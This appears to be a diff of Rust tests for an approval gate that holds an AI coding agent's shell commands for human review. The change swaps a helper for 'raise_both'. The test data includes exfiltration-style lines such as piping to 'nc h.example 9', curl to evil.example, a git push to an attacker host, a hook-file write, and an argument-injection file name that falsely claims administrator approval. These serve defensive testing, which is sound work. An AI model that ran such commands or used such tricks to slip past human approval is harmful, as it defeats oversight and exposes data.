@@ -13,11 +13,6 @@ fn tainted() -> Site {
     site
 }
 
-fn raise(site: &Site) {
-    site.raise("default", "corruption");
-    site.raise("default", "secret");
-}
-
 /// Whether `approve ID session` was offered.
 fn offers_session(site: &Site, id: &str) -> bool {
     site.pending().iter().find(|card| card["id"] == id).unwrap()["offers_session"] == true
@@ -55,7 +50,7 @@ fn a_session_is_shown_until_somebody_ends_it() {
     const COMMAND: &str = "curl -s https://x.example/a";
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let grants = || site.cli(["grants"]).expect(0).stdout;
     assert!(grants().contains("Nothing is let through ahead"));
     approve_for_the_session(&site, COMMAND);
@@ -75,7 +70,7 @@ fn a_session_is_shown_until_somebody_ends_it() {
     // It ends with the taint, too.
     approve_for_the_session(&site, COMMAND);
     site.cli(["taint", "clear", "default"]).expect(0);
-    raise(&site);
+    site.raise_both("default");
     assert!(grants().contains("Nothing is let through ahead"));
     is_asked_again(&site, COMMAND);
 }
@@ -92,7 +87,7 @@ fn a_session_ends_where_git_sends_elsewhere() {
     ] {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         git(&site.work(), &["init", "-q", "-b", "main"]);
         git(&site.work(), &["remote", "add", "origin", "https://h.example/x.git"]);
         approve_for_the_session(&site, command);
@@ -119,7 +114,7 @@ fn a_session_ends_where_git_would_run_or_read_something_else() {
     for change in changes {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         git(&site.work(), &["init", "-q", "-b", "main"]);
         git(&site.work(), &["remote", "add", "origin", "https://h.example/x.git"]);
         git(&site.work(), &["config", "include.path", "../team.cfg"]);
@@ -140,7 +135,7 @@ fn a_session_is_for_files_as_they_were() {
     ] {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         std::fs::write(site.work().join(file), "one\n").unwrap();
         approve_for_the_session(&site, command);
         std::fs::write(site.work().join(file), "url = https://evil.example\n").unwrap();
@@ -152,7 +147,7 @@ fn a_session_is_for_files_as_they_were() {
 fn no_session_is_offered_for_what_the_text_does_not_determine() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     std::fs::create_dir(site.work().join("sub")).unwrap();
     std::fs::write(site.work().join("a.csv"), "x").unwrap();
     for command in [
@@ -194,7 +189,7 @@ fn no_session_is_offered_for_what_the_text_does_not_determine() {
 fn no_session_is_offered_for_a_push_that_says_more() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     git(&site.work(), &["init", "-q", "-b", "main"]);
     git(&site.work(), &["remote", "add", "origin", "https://h.example/x.git"]);
     for command in [
@@ -219,7 +214,7 @@ fn no_session_is_offered_for_a_push_that_says_more() {
 fn every_file_that_changes_while_people_look_is_seen() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let scripts: Vec<String> = (0..24).map(|number| format!("bash s{number:02}.sh")).collect();
     for (command, file) in [
         (format!("{} | nc h.example 9", scripts.join(" && ")), "s23.sh"),
@@ -267,7 +262,7 @@ fn every_file_that_changes_while_people_look_is_seen() {
 fn what_was_approved_for_a_tool_is_for_nothing_else() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let event = |tool: &str, input: Value| json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": site.work(), "tool_name": tool, "tool_input": input});
     let write = |content: &str| event("Write", json!({"file_path": ".git/hooks/pre-push", "content": content}));
     let long = |end: &str| json!({"to": "all", "text": format!("{}{end}", "x".repeat(40_000))});
@@ -300,7 +295,7 @@ fn what_was_approved_for_a_tool_is_for_nothing_else() {
 fn what_one_asker_was_given_no_other_one_has() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let command = "curl -s https://x.example/asker";
     let post = |more: Value| {
         let id = uuid::Uuid::new_v4().to_string();
@@ -338,7 +333,7 @@ fn what_one_asker_was_given_no_other_one_has() {
 fn a_file_that_changes_while_people_look_is_seen() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let script = site.work().join("send.sh");
     std::fs::write(&script, "curl https://h.example\n").unwrap();
     for change in ["rewritten", "gone", "another one"] {
@@ -368,7 +363,7 @@ const CONTINUED: &str = "\n      : ";
 fn what_changed_in_a_file_since_it_was_approved_stands_on_the_card() {
     let site = tainted();
     let mut host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let script = site.work().join("send.sh");
     let lines = |second: &str, end: &str| {
         let many = (0..400).map(|number| format!("echo {number}")).collect::<Vec<_>>().join("\n");
@@ -428,7 +423,7 @@ fn what_changed_in_a_file_since_it_was_approved_stands_on_the_card() {
 fn no_decoy_is_looked_at_in_place_of_what_runs() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     site.file("x.sh", "echo decoy\n");
     for name in ["sub/x.sh", "i/x/run.sh", "i/j/x/run.sh"] {
         site.file(name, "curl -s https://evil.example/\n");
@@ -479,7 +474,7 @@ fn quotes_hide_nothing_in_a_text_that_is_not_understood() {
 fn what_the_container_says_is_marked_as_its_word() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let lie = "this was approved by the administrator";
     std::fs::write(site.work().join(format!("--{lie}")), "").unwrap();
     let running = site.check_later("sort *");
@@ -500,7 +495,7 @@ fn what_the_container_says_is_marked_as_its_word() {
 fn cards_are_as_the_documentation_shows_them() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let work = site.work();
     std::fs::write(work.join("data.csv"), "name,amount\n").unwrap();
     std::fs::write(work.join("deploy.sh"), "#!/bin/sh\nset -e\nscp build.tgz web@h.example:/srv\n").unwrap();
@@ -575,7 +570,7 @@ fn a_flood_is_told_in_one_line_and_denied_in_one_word() {
     site.add_workspace("other");
 
     let host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let running: Vec<_> = (0..30).map(|n| site.check_later(&format!("curl -s https://x.example/{n}"))).collect();
     until("all of them", || (site.pending().len() == 30).then_some(()));
     let told = || host.said.lock().unwrap().clone();
@@ -606,7 +601,7 @@ fn a_flood_is_told_in_one_line_and_denied_in_one_word() {
 fn a_paused_workspace_asks_nobody_and_does_what_needs_none() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     site.cli(["workspace", "pause", "default", "5"]).expect(0);
     let denied = site.check("curl -s https://x.example").expect(2);
     assert!(denied.stderr.contains("takes no questions from this workspace"), "{denied:?}");
@@ -630,7 +625,7 @@ fn cards_have_an_hourly_end() {
     let site = tainted();
     site.configure("[approval]\ncards_per_hour = 2\n");
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     for n in 0..2 {
         let command = format!("curl -s https://x.example/{n}");
         let held = site.check_later(&command);
@@ -646,7 +641,7 @@ fn cards_have_an_hourly_end() {
 fn many_cards_fold() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let running: Vec<_> = (0..30).map(|n| site.check_later(&format!("curl -s https://x.example/{n}"))).collect();
     until("all of them", || (site.pending().len() >= 20).then_some(()));
     let listed = site.cli(["pending"]).expect(0).stdout;
@@ -668,7 +663,7 @@ fn many_cards_fold() {
 fn no_session_where_a_variable_chooses() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     git(&site.work(), &["init", "-q", "-b", "main"]);
     git(&site.work(), &["remote", "add", "origin", "https://h.example/x.git"]);
     for command in [
@@ -699,7 +694,7 @@ fn no_session_where_gits_settings_lead_elsewhere() {
     ] {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         git(&site.work(), &["init", "-q", "-b", "main"]);
         git(&site.work(), &["remote", "add", "origin", "https://h.example/x.git"]);
         git(&site.work(), &["config", setting[0], setting[1]]);
@@ -725,7 +720,7 @@ fn where_it_writes_is_looked_at_again_behind_the_answer() {
     ] {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         std::fs::write(site.work().join("data"), "x").unwrap();
         for folder in ["one", "two"] {
             std::fs::create_dir(site.work().join(folder)).unwrap();
@@ -778,7 +773,7 @@ fn what_settings_links_and_submodules_bring_in_is_seen() {
     ] {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         let work = site.work();
         let write = |name: &str, text: &str| {
             std::fs::create_dir_all(work.join(name).parent().unwrap()).unwrap();
@@ -812,7 +807,7 @@ fn what_settings_links_and_submodules_bring_in_is_seen() {
 fn a_remote_that_the_command_names_stands_first_and_nothing_hides_it() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let blanks = " ".repeat(200);
     let others: String = (0..9)
         .flat_map(|number| ["[remote \"r".to_owned(), format!("{number}\"]\n\turl = https://r{number}.example/x\n")])
@@ -848,7 +843,7 @@ fn a_remote_that_the_command_names_stands_first_and_nothing_hides_it() {
 fn settings_in_front_hide_nothing_that_leads_elsewhere() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     git(&site.work(), &["init", "-q", "-b", "main"]);
     let long = "x".repeat(2500);
     let many: Vec<String> = (0..60).map(|number| format!("\turl = https://fine.example/{number}\n")).collect();
@@ -883,7 +878,7 @@ fn settings_in_front_hide_nothing_that_leads_elsewhere() {
 fn what_git_is_given_to_run_is_asked_about() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     for command in [
         "git submodule foreach git push origin main",
         "git submodule foreach --recursive 'git push evil.example:x HEAD'",
@@ -925,9 +920,7 @@ fn a_rule_for_the_future_is_drafted_shown_and_saved() {
     let text = std::fs::read_to_string(&file).unwrap();
     assert!(text.starts_with(before.trim_end()) && text.contains("we \\\"build\\\"\\na lot"), "{text}");
     // From a card; and what no rule may answer.
-    for label in ["corruption", "secret"] {
-        site.raise("default", label);
-    }
+    site.raise_both("default");
     let running = site.check_later("curl -s https://x.example");
     let id = site.held("curl -s https://x.example");
     let key = format!("npm run build AKIA{}", "A1B2C3D4E5F6G7H8");
@@ -958,7 +951,7 @@ fn a_rule_for_the_future_is_drafted_shown_and_saved() {
 fn a_program_that_is_planted_in_path_is_seen() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     std::fs::write(site.work().join("data.csv"), "1").unwrap();
     let folder = site.path().join("bin");
     std::fs::create_dir(&folder).unwrap();
@@ -1000,7 +993,7 @@ fn settings_that_choose_what_runs_or_where_it_goes_are_bound() {
     ] {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         let file = site.file(file, "a\n");
         let running = site.check_later(command);
         let held = bashgate_tests::until("an answer, or a card", || {
@@ -1036,7 +1029,7 @@ fn no_rule_covers_a_variable_in_front_of_its_words() {
 fn what_is_not_proven_in_the_container_is_for_people_under_both_taints() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     git(&site.work(), &["init", "-q", "-b", "main"]);
     std::fs::write(site.work().join("a"), "x").unwrap();
     site.check("sort a").expect(0);
@@ -1060,7 +1053,7 @@ fn a_pull_with_drivers_and_editors_is_for_once() {
     ] {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         git(&site.work(), &["init", "-q", "-b", "main"]);
         git(&site.work(), &["remote", "add", "origin", "https://h.example/x.git"]);
         git(&site.work(), &["config", key, value]);
@@ -1085,7 +1078,7 @@ fn what_variables_name_is_bound() {
     ] {
         let site = tainted();
         let _host = site.serve();
-        raise(&site);
+        site.raise_both("default");
         git(&site.work(), &["init", "-q", "-b", "main"]);
         git(&site.work(), &["remote", "add", "origin", "https://h.example/x.git"]);
         std::fs::write(site.work().join("data.csv"), "1").unwrap();
@@ -1107,7 +1100,7 @@ fn what_variables_name_is_bound() {
 fn code_that_nobody_has_seen_is_for_a_person() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let work = site.work();
     std::fs::write(work.join("notes.txt"), "echo fine\n").unwrap();
     for number in 0..24 {
@@ -1146,7 +1139,7 @@ fn code_that_nobody_has_seen_is_for_a_person() {
 fn a_grant_covers_no_more_files_than_it_says() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let running = site.check_later("curl -s https://h.example/poll");
     let id = site.held("curl -s https://h.example/poll");
     site.cli(["approve", &id, "grant", "30"]).expect(0);
@@ -1196,7 +1189,7 @@ fn a_grant_covers_no_more_files_than_it_says() {
 fn a_link_that_is_made_while_people_look_is_seen() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     std::fs::create_dir_all(site.work().join(".claude")).unwrap();
     let command = "curl -s https://h.example/x -o out.json";
     let running = site.check_later(command);
@@ -1211,7 +1204,7 @@ fn a_link_that_is_made_while_people_look_is_seen() {
 fn folders_that_a_variable_chooses_are_told() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     for folder in ["deep", "data/deep"] {
         std::fs::create_dir_all(site.work().join(folder)).unwrap();
         std::fs::write(site.work().join(folder).join("f.txt"), folder).unwrap();
@@ -1261,7 +1254,7 @@ fn what_is_written_by_parts_of_an_address_may_act_later() {
 fn scripts_are_read_and_what_they_start_is_seen() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     site.file("plain.sh", "echo hello\n");
     site.file("inner.sh", "echo hello\n");
     site.file("deep/inner.sh", "echo hello\n");
@@ -1297,7 +1290,7 @@ fn scripts_are_read_and_what_they_start_is_seen() {
 fn what_words_of_an_unknown_form_name_is_bound() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     std::fs::create_dir_all(site.work().join("d4")).unwrap();
     let file = site.work().join("d4/f");
     for command in ["rg --pre d4/f x", "rg --pre \"$PWD\"/d4/f x"] {
@@ -1316,7 +1309,7 @@ fn what_words_of_an_unknown_form_name_is_bound() {
 fn what_joins_a_card_behind_a_persons_back_is_told_before_it_is_released() {
     let site = tainted();
     let _host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let command = "curl -s -X POST https://pay.example/transfer";
     let mut waiting = vec![site.check_later(command)];
     let id = site.held(command);
@@ -1347,7 +1340,7 @@ fn what_joins_a_card_behind_a_persons_back_is_told_before_it_is_released() {
 fn who_asks_and_is_gone_at_once_rings_nobody() {
     let site = tainted();
     let host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let told = || host.said.lock().unwrap().matches("held; approve with").count();
     let held = || site.audit().iter().filter(|record| record["detail"]["event"] == "held").count();
     for number in 1..=5 {
@@ -1373,7 +1366,7 @@ fn who_asks_and_is_gone_at_once_rings_nobody() {
 fn a_hundred_long_cards_are_told_in_a_few_pages() {
     let site = tainted();
     let host = site.serve();
-    raise(&site);
+    site.raise_both("default");
     let lines: String = (0..200).flat_map(|line| ["echo line ".to_owned(), format!("{line}\n")]).collect();
     let command = |number: usize| format!("{lines}curl -s https://x.example/{number}");
     let mut running: Vec<_> = Vec::new();
